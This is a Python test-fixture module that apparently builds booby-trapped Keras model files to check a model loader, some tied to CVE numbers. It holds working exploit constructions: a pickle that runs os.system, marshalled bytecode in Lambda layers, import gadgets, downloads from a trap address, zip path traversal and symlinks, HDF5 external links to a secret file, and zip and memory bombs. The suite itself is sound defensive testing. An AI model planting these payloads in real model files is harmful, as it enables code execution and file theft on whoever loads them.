"""Model files that attack whoever opens them: those that were published, and their kin. Each would leave a mark.

CVE numbers stand where the published attack is this one; the others are of the same kinds.
"""

from __future__ import annotations

import base64
import copy
import json
import marshal
import os
import pickle
import stat
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]
CONFIG, WEIGHTS = "config.json", "model.weights.h5"


@dataclass(frozen=True)
class Trap:
    """What an attack would leave a mark on.

    Attributes:
        mark: a file that code of an attack would write.
        secret: a file that an attack would read.
        address: of a server that writes down who asks it.
        module: the name of a module that writes the mark when it is imported.
    """

    mark: Path
    secret: Path
    address: str
    module: str


class _Pickled:
    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.mark}",))


def layer(kind: str, module: str = "keras.layers", **config: Any) -> Config:
    return {"module": module, "class_name": kind, "config": {"name": "evil", **config}, "registered_name": None}


def function(name: str, module: str) -> Config:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def configs(trap: Trap) -> Iterator[tuple[str, str, Config]]:
    """Yield name, CVE and the layer of each attack through a config."""
    code = marshal.dumps(compile(f"open({str(trap.mark)!r}, 'w').close()", "evil", "exec"))
    lambda_ = {"class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(), "defaults": None}}
    lambda_["config"]["closure"] = None  # type: ignore[index]
    bytecode = layer("Lambda", function=lambda_)
    yield "Lambda of bytecode", "CVE-2024-3660", bytecode
    yield "Lambda of bytecode, as Keras 2 wrote it", "", {"class_name": "Lambda", "config": {"function": [code.hex()]}}
    imported = {"module": trap.module, "class_name": "function", "config": "run", "registered_name": "function"}
    yield "an import as a function", "CVE-2025-1550", layer("Lambda", function=imported)
    yield "an import as a layer", "CVE-2025-1550", layer("Odd", trap.module)
    yield "os.system as a layer", "", {**layer("function", "os"), "config": "system", "registered_name": "system"}
    download = function("get_file", "keras.utils")
    arguments = {"fname": "a", "origin": f"{trap.address}/a", "cache_dir": str(trap.mark.parent)}
    yield "keras.utils.get_file", "CVE-2025-8747", layer("Lambda", function=download, arguments=arguments)
    yield (
        "get_file that unpacks",
        "CVE-2025-12060",
        layer("Lambda", function=download, arguments={**arguments, "extract": True}),
    )
    unlock = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}
    yield "safe mode turned off by the config", "CVE-2025-9906", {**unlock, "registered_name": unlock["config"]}
    opened = layer("Lambda", function=function("load_model", "keras.models"), arguments={"filepath": str(trap.secret)})
    yield "keras.models.load_model", "", opened
    for kind in ("StringLookup", "IntegerLookup"):
        yield f"{kind} of a file", "CVE-2025-12058", layer(kind, vocabulary=str(trap.secret))
        yield f"{kind} of an address", "CVE-2025-12058", layer(kind, vocabulary=f"{trap.address}/words")
    yield "TextVectorization of a file", "", layer("TextVectorization", vocabulary=str(trap.secret))
    pickled = base64.b64encode(pickle.dumps(_Pickled(trap.mark))).decode()
    yield "TorchModuleWrapper of a pickle", "CVE-2025-49655", layer("TorchModuleWrapper", module=pickled)
    yield "TFSMLayer of a folder", "", layer("TFSMLayer", filepath=str(trap.mark.parent), call_endpoint="serve")
    yield "JaxLayer", "", layer("JaxLayer", call_fn=bytecode, params=None)
    yield "FlaxLayer", "", layer("FlaxLayer", module=bytecode, variables=None)
    spec = {"class_name": "__typespec__", "spec_name": "TensorSpec", "module": trap.module, "config": [[1], "float32"]}
    yield "a type by import", "", {**spec, "registered_name": None}
    for kind, argument in (("Map", "f"), ("Cond", "f"), ("Scan", "f"), ("WhileLoop", "cond")):
        yield f"the operation {kind}", "", layer(kind, "keras.src.ops.core", **{argument: lambda_})
    yield "a layer of somebody's package", "", {**layer("Odd", "mine.layers"), "registered_name": "mine>Odd"}
    yield "one of our names for another class", "", {**bytecode, "registered_name": "dlcli>Lambda"}
    yield "the base class of layers", "", layer("Layer", "keras.src.layers.layer")
    for place in ("activation", "kernel_initializer", "kernel_regularizer", "kernel_constraint", "dtype"):
        yield f"bytecode as {place}", "", layer("Dense", units=2, **{place: lambda_})
        yield f"an import as {place}", "", layer("Dense", units=2, **{place: imported})
    yield "bytecode in a wrapper", "", layer("TimeDistributed", layer=bytecode)
    yield "bytecode in a cell", "", layer("RNN", cell=bytecode)
    yield "bytecode in a build config", "", {**layer("Dense", units=2), "build_config": {"input_shape": lambda_}}
    compiled = {"optimizer": imported, "loss": imported, "metrics": [imported]}
    yield "an import where a model inside was compiled", "", {**layer("Dense", units=2), "compile_config": compiled}
    for dtype in ("S9999999999", "int8,S9999999999", "object"):
        value = {"class_name": "__numpy__", "config": {"value": [1], "dtype": dtype}}
        yield f"an array of the type {dtype}", "", layer("Rescaling", scale=value)
    writes = f"open({str(trap.mark)!r}, 'w').close()"
    odd = {"class_name": "__ellipsis__", "module": f"keras.initializers if {writes} else keras.initializers"}
    yield "code in the place of a module", "", layer("Dropout", rate=0.0, seed={**odd, "config": {}})
    odd = {"class_name": "Zeros", "module": "keras.initializers"}
    argument = {f"a=1) if {writes} else dict(b": 1}
    yield "code in the place of an argument", "", layer("Dropout", rate=0.0, seed={**odd, "config": argument})
    yield "weights beyond any memory", "", layer("Dense", units=10**13)
    yield "an embedding beyond any memory", "", layer("Embedding", input_dim=10**12, output_dim=10**6)


def with_layer(config: Config, added: Config) -> Config:
    """Return a Sequential model's config with one more layer, behind its input."""
    changed = copy.deepcopy(config)
    changed["config"]["layers"].insert(1, added)
    return changed


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def written(path: Path, content: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return path


def archives(good: Path, path: Path, trap: Trap) -> Iterator[tuple[str, Callable[[], object]]]:
    """Yield name and maker of each attack through an archive."""
    content = parts(good)

    def with_part(name: str, data: bytes, mode: int = 0) -> None:
        written(path, content)
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
            part = zipfile.ZipInfo(name)
            part.external_attr, part.compress_type = mode << 16, zipfile.ZIP_DEFLATED
            archive.writestr(part, data)

    def encrypted() -> None:
        data = bytearray(written(path, content).read_bytes())
        for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(signature)
            while at >= 0:
                data[at + place] |= 1
                at = data.find(signature, at + 4)
        path.write_bytes(data)

    upwards = os.path.relpath(trap.mark, path.parent)
    yield "a part that leads out", lambda: with_part(upwards, b"x")
    yield "a part with an absolute name", lambda: with_part(str(trap.mark), b"x")
    yield "assets that lead out", lambda: with_part(f"assets/layers/{upwards}", b"x")
    yield "a part that is a link", lambda: with_part("link", str(trap.secret).encode(), stat.S_IFLNK | 0o777)
    yield "two configs", lambda: with_part(CONFIG, b"{}")
    yield "two parts of weights", lambda: with_part(WEIGHTS, content[WEIGHTS])
    yield "pickled weights", lambda: with_part("model.weights.npz", pickle.dumps(_Pickled(trap.mark)))
    yield "encrypted parts", encrypted
    yield "a config that expands", lambda: written_small(path, {**content, CONFIG: b" " * 40_000_000})
    yield "weights that expand", lambda: written_small(path, {**content, WEIGHTS: bytes(150_000_000)})
    yield "a config of brackets", lambda: written(path, {**content, CONFIG: b"[" * 500_000})
    deep = b'{"class_name": "Sequential", "config": ' * 2_000 + b"{}" + b"}" * 2_000
    yield "a config nested deeply", lambda: written(path, {**content, CONFIG: deep})
    yield (
        "a config of a million parts",
        lambda: written(path, {**content, CONFIG: b'{"a": [' + b"0," * 2_000_000 + b"0]}"}),
    )
    yield "a config that is a number", lambda: written(path, {**content, CONFIG: b"1"})


def written_small(path: Path, content: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in content.items():
            archive.writestr(name, data)


def stores(trap: Trap) -> Iterator[tuple[str, str, Callable[[Any, str], object]]]:
    """Yield name, CVE and what replaces one dataset of an open HDF5 file by an attack."""

    def external(file: Any, name: str) -> None:
        shape = _taken(file, name)
        file.create_dataset(name, shape, "f4", external=[(str(trap.secret), 0, h5py.h5f.UNLIMITED)])

    def virtual(file: Any, name: str) -> None:
        shape = _taken(file, name)
        layout = h5py.VirtualLayout(shape, "f4")
        layout[...] = h5py.VirtualSource(str(trap.secret), "secret", shape)
        file.create_virtual_dataset(name, layout)

    def bomb(file: Any, name: str) -> None:
        _taken(file, name)
        file.create_dataset(name, (10**6, 10**6), "f4", chunks=(10**3, 10**3), compression="gzip")

    def objects(file: Any, name: str) -> None:
        shape = _taken(file, name)
        file.create_dataset(name, shape, h5py.string_dtype())

    def references(file: Any, name: str) -> None:
        shape = _taken(file, name)
        file.create_dataset(name, shape, h5py.ref_dtype)

    def plugin(file: Any, name: str) -> None:
        shape = _taken(file, name)
        settings = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        settings.set_chunk(shape)
        settings.set_filter(32015, h5py.h5z.FLAG_OPTIONAL, ())
        h5py.h5d.create(file.id, name.encode(), h5py.h5t.IEEE_F32LE, h5py.h5s.create_simple(shape), settings)

    def linked(link: Any) -> Callable[[Any, str], None]:
        def replace(file: Any, name: str) -> None:
            _taken(file, name)
            file[name] = link

        return replace

    def cycle(file: Any, name: str) -> None:
        file[name.split("/")[0]]["again"] = file[name.split("/")[0]]

    yield "numbers stored in another file", "CVE-2026-1669", external
    yield "virtual numbers", "", virtual
    yield "a link to another file", "", linked(h5py.ExternalLink(str(trap.secret), "secret"))
    yield "a link inside the file", "", linked(h5py.SoftLink("/"))
    yield "a shape beyond any memory", "CVE-2026-0897", bomb
    yield "texts in the place of numbers", "", objects
    yield "references in the place of numbers", "", references
    yield "a filter that is a plugin", "", plugin
    yield "groups in a circle", "", cycle


def _taken(file: Any, name: str) -> tuple[int, ...]:
    shape: tuple[int, ...] = file[name].shape
    del file[name]
    return shape


def stored(source: bytes, path: Path, change: Callable[[Any, str], object]) -> Path:
    """Write an HDF5 file with its first dataset of two dimensions or more changed."""
    path.write_bytes(source)
    with h5py.File(path, "r+") as file:
        names: list[str] = []
        file.visititems(lambda name, found: names.append(name) if getattr(found, "ndim", 0) > 1 else None)
        change(file, names[0])
    return path


def legacy_model(path: Path, config: Config) -> Path:
    """Write a whole model as Keras 2 did, whose Lambda runs at loading whatever safe mode says: CVE-2025-9905."""
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.create_group("model_weights").attrs["layer_names"] = np.array([b"dense"])
    return path


def pickled_arrays(path: Path, mark: Path, names: list[str]) -> Path:
    """Write an `.npz` whose arrays are pickled objects."""
    np.savez(path, **{name: np.array([_Pickled(mark)], dtype=object) for name in names})  # type: ignore[arg-type]
    return path
